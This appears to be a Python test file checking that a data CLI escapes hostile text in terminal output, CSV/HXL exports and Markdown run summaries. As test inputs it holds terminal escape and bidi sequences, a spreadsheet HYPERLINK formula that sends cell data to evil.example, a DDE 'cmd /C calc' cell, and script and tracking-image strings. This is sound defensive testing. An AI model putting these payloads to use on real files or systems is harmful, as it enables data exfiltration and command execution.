"""Text written to hurt whoever reads it: a publisher's feed and report carrying rich markup
(`[/]`, `[link=...]`), ANSI escape sequences and bidi overrides, ingested by the real
`toll ingest` from a server on 127.0.0.1, then shown by every command that prints data."""

from __future__ import annotations

import csv
import re
from dataclasses import dataclass
from pathlib import Path

import pytest
from typer.testing import CliRunner

from flows.cli.app import app
from flows.cli.output import shown
from flows.sample_site.demo import write_demo_config
from flows.sample_site.server import SiteServer
from tests.support import hostile_documents as hostile
from tests.support.records import batch, figure
from warehouse.database import publish, reader, writer
from warehouse.load import load_batch
from warehouse.sql import scalar

EVIL_LINK = "[link=http://evil.example/]Open report[/link]"
TITLE = f"Monthly toll [/] {EVIL_LINK} \u202eflipped\u202c :skull:"
REPORT = (
    "In April 2024, 93 civilians were killed in Idlib [/] \x1b[2J\x1b[31mred "
    f"{EVIL_LINK} \x9b31m\u2066isolated\u2069 :skull:.\n"
).encode()
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open report")'
LINKS = [
    "/hostile/report.txt?from=[/]&to=" + EVIL_LINK.replace(" ", "%20"),
    "/hostile/missing.txt?q=[/][bold]\u202e",
    "/hostile/formula.txt",
]
UNSHOWABLE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
runner = CliRunner()


@dataclass
class Ingested:
    """The data folder the hostile feed was ingested into, and what `toll ingest` printed."""

    home: Path
    output: str
    exit_code: int


@pytest.fixture(scope="module")
def ingested(prefect_api, tmp_path_factory) -> Ingested:
    root = tmp_path_factory.mktemp("hostile-text-site") / "site"
    root.mkdir()
    (root / "robots.txt").write_text("User-agent: *\nAllow: /\n")
    home = tmp_path_factory.mktemp("hostile-text-home")
    with SiteServer(root=root) as site:
        files = {"report.txt": REPORT, "formula.txt": b"In May 2024, 12 civilians were killed.\n"}
        feed = hostile.serve(root, files, LINKS, [TITLE, TITLE, FORMULA])
        config = write_demo_config(home, site.base_url)
        config.write_text(hostile.hostile_source(site.base_url, feed))
        result = runner.invoke(
            app,
            ["ingest", "--home", str(home), "--config", str(config), "--task-runner", "threads"],
        )
    return Ingested(home, result.output, result.exit_code)


def test_shown_escapes_markup_and_strips_what_a_terminal_obeys() -> None:
    assert shown("[/] [link=http://x]y[/link]") == "\\[/] \\[link=http://x]y\\[/link]"
    assert shown("a\x1b[2Jb\x07c\rd\x9b31m\u202ee\u2067f\u2069\x00") == "a[2Jbcd31mef"
    assert shown("tab\tand\nnewline kept; Arabic مقتل \u200f kept") == (
        "tab\tand\nnewline kept; Arabic مقتل \u200f kept"
    )
    assert shown("[bold]x[/]", markup=False) == "[bold]x[/]"
    assert shown(None) == "" and shown(93) == "93"


def commands(home: Path, figure: str) -> dict[str, list[str]]:
    """Every command that prints data from the warehouse."""
    h = ["--home", str(home)]
    return {
        "sql table": ["sql", "SELECT url, document_title, snippet FROM figure_provenance", *h],
        "sql title": ["sql", "SELECT DISTINCT document_title FROM figure_provenance", *h],
        "sql settings": ["sql", "SELECT * FROM duckdb_settings()", *h],
        "sql column": ["sql", f'SELECT 1 AS "{EVIL_LINK} [/]"', *h],
        "sql error": ["sql", "SELECT [/] \x1b[2J FROM nowhere", *h],
        "status": ["status", *h],
        "check": ["check", *h],
        "explain": ["explain", figure, *h],
    }


def test_hostile_text_reaches_no_terminal(ingested: Ingested, reliability) -> None:
    home = ingested.home
    with reader(home) as conn:
        figure = scalar(conn, "SELECT figure_id FROM figures WHERE count = 93")
        stored = scalar(conn, "SELECT title FROM documents WHERE url LIKE '%report.txt%'")
    outputs = {"ingest": (ingested.exit_code, ingested.output)}
    for name, argv in commands(home, figure).items():
        result = runner.invoke(app, argv)
        outputs[name] = (result.exit_code, result.output)
    crashed = {name: out[-300:] for name, (code, out) in outputs.items() if code not in (0, 1, 3)}
    leaked = {name: sorted(set(UNSHOWABLE.findall(out))) for name, (_, out) in outputs.items()}
    leaked = {name: chars for name, chars in leaked.items() if chars}
    literal = [name for name in ("sql table", "explain") if "[/]" not in outputs[name][1]]
    reliability.record(
        "terminal_markup",
        f"ingested (exit {ingested.exit_code}); `toll sql` (tables, CSV, column names, "
        "duckdb_settings(), an error echoing the query), `toll status`, `toll check` and "
        "`toll explain` printed the title and snippet with [/] and [link=…] as text, and "
        "without ESC, CSI or bidi-override characters",
        not crashed,
        f"control characters shown by {sorted(leaked)}" if leaked else None,
    )
    assert stored == TITLE  # the warehouse keeps the text as published: only display cleans
    assert crashed == {}, crashed
    assert leaked == {}, leaked
    assert literal == [], {name: outputs[name][1][-1500:] for name in literal}
    assert outputs["ingest"][0] == 3  # partial: the hostile URL failed, the rest published
    assert [code for name, (code, _) in outputs.items() if name not in ("sql error", "ingest")] == [
        0
    ] * 7
    assert outputs["sql error"][0] == 1 and "query failed" in outputs["sql error"][1]
    assert EVIL_LINK.replace(" ", "") in re.sub(r"\s+", "", outputs["sql title"][1])
    assert ":skull:" in outputs["sql table"][1] and "💀" not in outputs["sql table"][1]
    failures = re.sub(r"\s+", "", outputs["ingest"][1])
    assert "?q=[/][bold]" in failures  # the failed URL, as text


def in_a_terminal(argv: list[str]) -> str:
    """What a command writes to a real (pseudo-)terminal, as the terminal receives it."""
    import os
    import pty
    import subprocess
    import sys

    leader, follower = pty.openpty()
    env = {**os.environ, "COLUMNS": "200", "TERM": "xterm-256color"}
    env.pop("NO_COLOR", None)
    process = subprocess.Popen(
        [sys.executable, "-m", "flows.cli", *argv],
        stdin=subprocess.DEVNULL,
        stdout=follower,
        stderr=follower,
        env=env,
        cwd=Path(__file__).resolve().parents[2],
    )
    os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # EIO: the command exited and closed the terminal
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(leader)
    assert process.wait(timeout=120) == 0, b"".join(chunks)[-2000:]
    return b"".join(chunks).decode("utf-8", "replace")


def test_a_real_terminal_gets_no_escape_sequence_or_hyperlink_from_the_data(
    ingested: Ingested,
) -> None:
    h = ["--home", str(ingested.home)]
    table = in_a_terminal(["sql", "SELECT document_title, snippet FROM figure_provenance", *h])
    csv = in_a_terminal(
        ["sql", "SELECT document_title, snippet FROM figure_provenance", "-f", "csv", *h]
    )
    for output in (table, csv):
        assert "Idlib" in output and "[/]" in output
        assert "\x1b[2J" not in output and "\x1b]8;" not in output  # clear screen, hyperlink
        assert not re.search("[\x9b\u202a-\u202e\u2066-\u2069]", output)
    assert "[link=http://evil.example/]" in table.replace("\r\n", "")


def rows(path: Path, header: bool = False) -> list:
    """The rows of a CSV file (as dicts when it has a header)."""
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle) if header else csv.reader(handle))


def test_exported_formulas_are_shown_not_run(ingested: Ingested, tmp_path: Path, reliability):
    safe, raw = tmp_path / "safe", tmp_path / "raw"
    for out, switch in ((safe, []), (raw, ["--no-escape-formulas"])):
        result = runner.invoke(
            app,
            ["export", "--format", "csv", "--out", str(out), "--home", str(ingested.home), *switch],
        )
        assert result.exit_code == 0, result.output
    titles = {
        name: {row["document_title"] for row in rows(folder / "figures.csv", header=True)}
        for name, folder in (("safe", safe), ("raw", raw))
    }
    runs = [t for t in titles["safe"] if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    reliability.record(
        "csv_formula",
        f"toll export --format csv and hxl wrote the title as “{min(titles['safe'])[:24]}…”: a "
        "leading ' makes spreadsheets show it as text; --no-escape-formulas keeps it as stored",
        "'" + FORMULA in titles["safe"],
        f"{len(runs)} cell(s) a spreadsheet would run" if runs else None,
    )
    assert "'" + FORMULA in titles["safe"] and runs == []
    assert FORMULA in titles["raw"]


def test_hxl_cells_are_escaped_too(home: Path, tmp_path: Path) -> None:
    from warehouse.outputs.export import export

    hostile_raw = "+cmd|' /C calc'!A0"
    with writer(home) as conn:
        load_batch(conn, batch("r", "a", [figure("a", "civ", 93, perpetrator="isis")]))
        conn.execute("UPDATE figures SET perpetrator_raw = ?", [hostile_raw])
    publish(home)
    with reader(home) as conn:
        safe = export(conn, "hxl", tmp_path / "safe").paths[0]
        raw = export(conn, "hxl", tmp_path / "raw", escape_formulas=False).paths[0]
    assert rows(safe)[2][6] == "'" + hostile_raw
    assert rows(raw)[2][6] == hostile_raw


def test_the_prefect_artifact_shows_hostile_failures_as_text(reliability) -> None:
    from markdown_it import MarkdownIt

    from flows.summary import RunSummary, markdown_text, summary_markdown
    from warehouse.rows import RunCounts

    url = "http://127.0.0.1:8741/x?a=![p](http://evil.example/pixel.png)&b=<img src=x>"
    error = "HTTP 500 | [Open report](http://evil.example/phish) <script>alert(1)</script>\n# h"
    failures = [{"source": "s", "stage": "fetch", "url": url, "error": error}]
    summary = RunSummary("run-1", "nightly", "partial", ["s"], RunCounts(), failures)
    html = (
        MarkdownIt("commonmark", {"html": True}).enable("table").render(summary_markdown(summary))
    )
    active = re.findall(r"<(a|img|script|h1)\b", html)
    rows = re.findall(r"<tr>", html)
    reliability.record(
        "artifact_markdown",
        "a failure whose URL and error hold a Markdown image, a link, <img>, <script> and a "
        "heading: the run artifact's Markdown renders them as text, one table row",
        not active,
        f"rendered as {sorted(set(active))}" if active else None,
    )
    assert active == [] and len(rows) == 4  # the counts (header, row), the failures (header, one)
    assert "evil.example/pixel.png" in html and "&lt;script&gt;" in html
    assert markdown_text("a\x1b[2J\nb") == "a \\[2J b"
